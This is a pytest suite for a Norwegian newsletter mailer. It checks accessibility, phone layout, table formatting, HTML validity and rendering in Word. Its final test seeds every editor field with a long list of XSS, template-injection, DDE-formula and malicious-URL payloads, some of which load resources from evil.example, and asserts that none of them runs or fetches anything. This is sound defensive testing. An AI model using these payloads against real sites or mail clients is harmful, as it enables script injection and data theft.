"""Mail and web version in a real browser: readable for everybody, no wider than the window, deaf to hostile words."""

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from itertools import cycle
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from mailer.issue.markdown.blocks import parse_blocks
from mailer.issue.model import (
    CalendarDate,
    Contact,
    Heading,
    Image,
    Issue,
    IssueKind,
    Item,
    Link,
    LinkEntry,
    LinkGroup,
    List,
    Paragraph,
    Quote,
    Section,
    Text,
)
from tests.compose.word import IGNORED, RUNS, as_word_reads_it, differences

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

# Landmarks are the mail program's: the mail is a part of its page.
BUT_FOR = {"mail": ("landmark-one-main", "region"), "web": ()}
ONLY_IN_MAIL = {
    "no-deprecated-attr",  # align, bgcolor and the like of tables, for Word
    "no-inline-style",  # for programs that drop style blocks
    "no-conditional-comment",  # Word's branches
    "prefer-tbody",  # of tables for layout, as MJML writes them
    "prefer-native-element",  # role=article around all of it, which mail programs cannot have as an element
}
# A wide table is laid out as lines on a phone, where Safari forgets that it is a table unless roles say so.
FOR_TABLES_ON_A_PHONE = {"no-redundant-role"}
# The issue with every part comes with each run, the published ones with the longer form.
ISSUES = ("2024-06", *(pytest.param(slug, marks=pytest.mark.slow) for slug in ("2022-02", "2023-12", "2024-06-b")))
SLUGS = ("2024-06", "2022-02", "2023-12")
NOTE = "2024-06-b"
FORMS = ("mail", "web")


@dataclass
class Opened:
    """A page, and what it did by itself."""

    page: "Page"
    requests: list[str]
    scripts: list[str]


BOXES = """cells => cells.map(cell => {
  const size = each => (({ width, height }) => ({ width, height }))(each.getBoundingClientRect());
  return { ...size(cell), link: size(cell.querySelector('a')) };
})"""
Open = Callable[..., Opened]
FindFaults = Callable[..., dict[str, set[str]]]


@pytest.fixture
def open_html(browser: "Browser", tmp_path: Path) -> Iterator[Open]:
    contexts = []

    def open_it(html: str, *, scheme: str = "light", width: int = 1200) -> Opened:
        (tmp_path / "page.html").write_text(html, "utf-8")
        settings: Any = {"color_scheme": scheme, "viewport": {"width": width, "height": 900}}
        context = browser.new_context(**settings)
        contexts.append(context)
        page = context.new_page()
        opened = Opened(page, [], [])
        page.on("request", lambda request: opened.requests.append(request.url))
        page.on("dialog", lambda dialog: opened.scripts.append(dialog.message))
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.on("pageerror", lambda error: opened.scripts.append(str(error)))
        page.goto((tmp_path / "page.html").as_uri())
        opened.requests.pop(0)
        return opened

    yield open_it
    for each in contexts:
        each.close()


@pytest.fixture(scope="module")
def composed(
    forms_of: Callable[[Issue], dict[str, str]], real_issue: Callable[[str], Issue], full_issue: Issue
) -> dict[tuple[str, str], str]:
    issues = {slug: full_issue if slug == full_issue.slug else real_issue(slug) for slug in SLUGS}
    day = CalendarDate(start=date(2024, 6, 12))
    issues[NOTE] = replace(full_issue, kind=IssueKind.NOTE, title="Rettelse", number=None, published=day, sections=())
    return {(slug, form): html for slug, issue in issues.items() for form, html in forms_of(issue).items()}


@pytest.mark.timeout(180)
@pytest.mark.slow
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("slug", ISSUES)
def test_nobody_is_shut_out_and_nothing_is_wider_than_the_window(
    slug: str, form: str, composed: dict[tuple[str, str], str], open_html: Open, hurdles: Callable[..., set[str]]
) -> None:
    opened = open_html(composed[slug, form])
    assert hurdles(opened.page, but_for=BUT_FOR[form]) == set()
    assert opened.requests == []


# All but the rule for all paragraphs, from which some kinds are excepted in the element.
BEATEN = """() => [...document.styleSheets]
    .flatMap(sheet => [...sheet.cssRules])
    .flatMap(rule => rule instanceof CSSMediaRule ? [...rule.cssRules] : [rule])
    .filter(rule => rule instanceof CSSStyleRule && rule.selectorText !== 'p')
    .flatMap(rule => [...document.querySelectorAll(rule.selectorText)].flatMap(element => [...rule.style]
        .filter(name => !rule.style.getPropertyPriority(name) && element.style.getPropertyValue(name))
        .filter(name => element.style.getPropertyValue(name) !== rule.style.getPropertyValue(name))
        .map(name => `${rule.selectorText}: ${name} of ${element.tagName}.${element.className}`)))"""


@pytest.mark.slow
@pytest.mark.parametrize("slug", ISSUES)
def test_no_rule_of_a_style_block_is_beaten_by_one_that_stands_in_the_element(
    slug: str, composed: dict[tuple[str, str], str], open_html: Open
) -> None:
    """Such a rule would count for elements of one kind and not for others, as it did for titles outside sections."""
    assert open_html(composed[slug, "mail"]).page.evaluate(BEATEN) == []


# Whatever is computed for the parts of an item, and how high they are, each as one text, which comes over quickly; only
# headings are of another level.
LOOKS = """number => [document.getElementById(`sak-${number}`).parentElement]
    .flatMap(item => [item, ...item.querySelectorAll('*')])
    .map(element => [element, getComputedStyle(element)])
    .map(([element, style]) => JSON.stringify([element.className, element.getBoundingClientRect().height,
        ...[...style].map(name => `${name}: ${style.getPropertyValue(name)}`)]))"""


@pytest.mark.slow
@pytest.mark.parametrize("with_style_blocks", [True, False])
def test_an_item_looks_the_same_in_a_section_below_one_and_outside(
    *, with_style_blocks: bool, forms_of: Callable[[Issue], dict[str, str]], full_issue: Issue, open_html: Open
) -> None:
    longest = max(full_issue.items, key=lambda item: len(item.body))
    sections = [
        Section(id=id_, title=title, parent=parent, items=(replace(longest, number=number, slug=f"sak-{number}"),))
        for number, (id_, title, parent) in enumerate((("", "", ""), ("a", "Nytt", ""), ("b", "Helse Nord", "a")), 1)
    ]
    mail = forms_of(replace(full_issue, sections=tuple(sections)))["mail"]
    page = open_html(mail if with_style_blocks else re.sub(r"<style\b.*?</style>", "", mail, flags=re.DOTALL)).page
    outside, inside, below = (page.evaluate(LOOKS, number) for number in (1, 2, 3))
    assert {json.loads(each)[0] for each in outside} >= {"item", "h3", "h4", "row", "due"}
    assert outside == inside == below


# For each cell that stands right of a number: how far from it, as a share of how wide a space within it is.
GAPS = """() => {
    const rect = (node, from, to) => {
        const range = document.createRange();
        range.setStart(node, from);
        range.setEnd(node, to);
        return range.getBoundingClientRect();
    };
    return [...document.querySelectorAll("td.nw")].filter(each => each.nextElementSibling).map(each => {
        const [number, next] = [each.lastChild, each.nextElementSibling.lastChild];
        const space = number.data.search(/\\s/);
        return (rect(next, 0, 1).left - rect(number, 0, number.length).right) / rect(number, space, space + 1).width;
    });
}"""


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMS)
def test_numbers_in_a_wide_table_stand_further_apart_than_their_groups(
    form: str, forms_of: Callable[[Issue], dict[str, str]], full_issue: Issue, open_html: Open
) -> None:
    years = "| År | 2019 | 2020 | 2021 | 2022 | 2023 | Merknad |\n|---|---:|---:|---:|---:|---:|---|\n"
    body, _ = parse_blocks(years + "| Midt |" + " 2 200 000 |" * 5 + " Vedlegg |", file="f", lang="nb")
    item = replace(full_issue.items[0], body=body)
    html = forms_of(replace(full_issue, sections=(Section(id="", items=(item,)),)))[form]
    gaps = open_html(html, width=1200).page.evaluate(GAPS)
    assert len(gaps) == 5
    assert min(gaps) > 2.5


# Each number in a cell of a table that does not stand on one line.
BROKEN_NUMBERS = r"""() => {
    const broken = [];
    for (const cell of document.querySelectorAll(".tb :is(td, th)")) {
        const words = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        while (words.nextNode()) {
            for (const found of words.currentNode.data.matchAll(/\d[\d.:]*/g)) {
                const range = document.createRange();
                range.setStart(words.currentNode, found.index);
                range.setEnd(words.currentNode, found.index + found[0].length);
                if (new Set([...range.getClientRects()].map(each => each.top)).size > 1) broken.push(found[0]);
            }
        }
    }
    return broken;
}"""
TABLES = (
    "Kl. 10.00\tVelkomen ved leiar i partnarskapsmøtet, Gunn Marie Lid\nKl. 10.15\tStatus\n\tOrdstyrar: Ole Kvam",
    "Måndag\t08.00–15.30\tHelsekontoret i kommunesenteret\nTysdag\tStengt\tDet er ikkje bemanning denne dagen",
    "Tiltak\tSum\tMerknad\nLegevakt\tca. 12500 og 13750\tSamhandlingsmidlar til alle kommunane i fylket, også neste år",
    "FELLESKAP\tOMMØBLERT\tKOMMUNENES\nKOMMUNEN\t100.000\tMAMMAMIA",
    "\n".join("\t".join(f"{region}{'a' * 12} {number}50000" for number in range(1, 4)) for region in ("Nord", "Sør")),
)


@pytest.mark.slow
@pytest.mark.parametrize("width", [320, 375])
@pytest.mark.parametrize("form", FORMS)
def test_no_line_ends_within_a_number_of_a_table_on_a_phone(
    form: str, width: int, forms_of: Callable[[Issue], dict[str, str]], full_issue: Issue, open_html: Open
) -> None:
    body = tuple(block for table in TABLES for block in parse_blocks(table, file="f", lang="nn")[0])
    item = replace(full_issue.items[0], body=body)
    html = forms_of(replace(full_issue, sections=(Section(id="", items=(item,)),)))[form]
    page = open_html(html, width=width).page
    assert page.evaluate(BROKEN_NUMBERS) == []
    assert page.evaluate("document.documentElement.scrollWidth") == width


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("slug", ISSUES)
def test_the_smallest_phones_need_no_sideways_scrolling(
    slug: str, form: str, composed: dict[tuple[str, str], str], open_html: Open
) -> None:
    page = open_html(composed[slug, form], width=320).page
    assert page.evaluate("document.documentElement.scrollWidth") == 320


@pytest.mark.parametrize("slug", ISSUES)
def test_lists_of_links_of_the_web_version_are_large_enough(
    slug: str, composed: dict[tuple[str, str], str], open_html: Open
) -> None:
    page = open_html(composed[slug, "web"], width=390).page
    heights = "[...document.querySelectorAll('.toc a, .cal')].map(each => each.getBoundingClientRect().height)"
    assert min(page.evaluate(heights), default=44) >= 44


@pytest.mark.parametrize("slug", ISSUES)
def test_the_web_version_is_valid_html(
    slug: str, composed: dict[tuple[str, str], str], find_html_faults: FindFaults
) -> None:
    faults = find_html_faults(web=composed[slug, "web"])["web"]
    assert {each for each in faults if each.partition(":")[0] not in FOR_TABLES_ON_A_PHONE} == set()


@pytest.mark.parametrize("slug", ISSUES)
def test_the_mail_is_valid_html_but_for_what_mail_cannot_do_without(
    slug: str, composed: dict[tuple[str, str], str], find_html_faults: FindFaults
) -> None:
    faults = find_html_faults(mail=composed[slug, "mail"])["mail"]
    assert {each for each in faults if each.partition(":")[0] not in ONLY_IN_MAIL | FOR_TABLES_ON_A_PHONE} == set()


@pytest.mark.slow
@pytest.mark.parametrize("slug", ISSUES)
def test_what_word_reads_is_balanced_and_has_every_word(
    slug: str,
    composed: dict[tuple[str, str], str],
    find_html_faults: FindFaults,
    open_html: Open,
) -> None:
    mail = composed[slug, "mail"]
    for_word = as_word_reads_it(mail)
    assert "<!--[if" not in for_word
    structure = {"close-order", "close-attr", "element-permitted-content", "element-required-content", "void-content"}
    # Word's own elements (o:OfficeDocumentSettings) are no HTML.
    without_settings = re.sub(r"<xml>.*?</xml>", "", for_word, flags=re.DOTALL)
    faults = find_html_faults(word=without_settings)["word"]
    assert {each for each in faults if each.partition(":")[0] in structure} == set()
    drawn, in_word = (open_html(html).page.inner_text("body") for html in (mail, without_settings))
    assert drawn.split() == in_word.replace("\N{NON-BREAKING HYPHEN}", "-").split()


@pytest.mark.slow
@pytest.mark.parametrize("slug", SLUGS[1:])
def test_word_keeps_the_space_between_blocks(slug: str, composed: dict[tuple[str, str], str], open_html: Open) -> None:
    """It ignores padding outside cells of tables, lines and grounds of a div, margins of tables and much else."""
    mail = composed[slug, "mail"]
    drawn = open_html(mail).page.evaluate(RUNS)
    in_word = open_html(as_word_reads_it(mail)).page
    in_word.evaluate(IGNORED)
    assert differences(drawn, in_word.evaluate(RUNS)) == []


@pytest.mark.slow
def test_the_whole_of_a_button_and_of_a_row_of_the_contents_can_be_pressed(
    composed: dict[tuple[str, str], str], open_html: Open
) -> None:
    page = open_html(composed["2023-12", "mail"], width=375).page
    for cell in (".btn", ".cal", ".tn"):
        for box in page.locator(cell).evaluate_all(BOXES):
            assert box["link"]["height"] >= 44
            assert box["link"]["width"] >= box["width"] - 2


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
    "<body onload=alert(1)>",
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=https://evil.example/>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '" style="background:url(https://evil.example/x)" x="',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</a><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![endif]--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    "<mj-style inline='inline'>@import url(https://evil.example/x.css)</mj-style>",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "{{ 7*7 }}{{ slots }}{# x #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</script>",
    "<a href='javascript:alert(1)' autofocus>x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<xss style='animation-name:x' onanimationstart=alert(1)></xss>",
    "<img srcset='https://evil.example/x 2x'>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<track src=https://evil.example/t>",
    "<input type=image src=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td>x</table>",
    "<bgsound src=https://evil.example/x>",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<portal src=https://evil.example/></portal>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>alert(1)</script>",
    "\N{LINE SEPARATOR}<script>alert(1)</script>\N{PARAGRAPH SEPARATOR}",
    "${alert(1)}`${alert(1)}`",
    '#panic("x") $x$ #import "a.typ"',
    "=cmd|' /C calc'!A0",
]
HOSTILE_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "%6aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "intent://evil.example#Intent;end",
    "view-source:https://evil.example/",
    "jar:https://evil.example!/",
    "mhtml:https://evil.example/",
    "about:blank",
    "chrome://settings",
    "ms-msdt:/id PCWDiagnostic",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><script>alert(1)</script>",
    'mailto:a@b.example"onclick="alert(1)',
    'tel:1"onclick=alert(1)//',
]
ALLOWED_SCHEMES = ("https:", "http:", "mailto:", "tel:", "file:")  # file: with a fragment is the page itself


def poisoned(issue: Issue) -> Issue:
    """An issue that has every payload in each place that an editor's words can come to."""
    addresses = cycle(HOSTILE_ADDRESSES)

    def link(words: str) -> Link:
        return Link((Text(words),), next(addresses))

    def item(number: int, words: str) -> Item:
        inner = Paragraph((Text(words), link(words)))
        body = (
            inner,
            Heading(4, (Text(words),)),
            List(points=((inner,),)),
            Quote((inner,)),
            Image(words, words, words),
            Paragraph((Text("Les: "), link(words))),
        )
        contact = Contact(email="a@b.example", name=words)
        return Item(slug=f"sak-{number}", number=number, lang="nb", title=words, body=body, contacts=(contact,))

    items = tuple(item(number, words) for number, words in enumerate(HOSTILE, 1))
    entries = tuple(LinkEntry(text=(Text(words), link(words))) for words in HOSTILE)
    return replace(
        issue,
        title=HOSTILE[0],
        publisher=HOSTILE[3],
        preheader=HOSTILE[26],
        reader_note=HOSTILE[29],
        intro=(Paragraph(tuple(Text(words) for words in HOSTILE)),),
        sections=tuple(Section(id=f"s{each.number}", title=each.title, items=(each,)) for each in items),
        link_groups=(LinkGroup(title=HOSTILE[1], entries=entries),),
    )


@pytest.mark.parametrize("form", FORMS)
def test_hostile_words_and_links_run_nothing_and_fetch_nothing(
    form: str, small_issue: Issue, forms_of: Callable[[Issue], dict[str, str]], open_html: Open
) -> None:
    assert len(HOSTILE) + len(HOSTILE_ADDRESSES) >= 100
    opened = open_html(forms_of(poisoned(small_issue))[form])
    page = opened.page
    page.mouse.move(400, 400)
    page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    assert opened.scripts == []
    assert opened.requests == []
    assert page.evaluate("document.querySelectorAll('script,iframe,object,embed,form,svg,link,base').length") == 0
    protocols = set(page.evaluate("[...document.links].map(each => each.protocol)"))
    assert protocols <= set(ALLOWED_SCHEMES)
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert page.evaluate(handlers) == []
    assert page.inner_text("body").count("alert(1)") >= 100
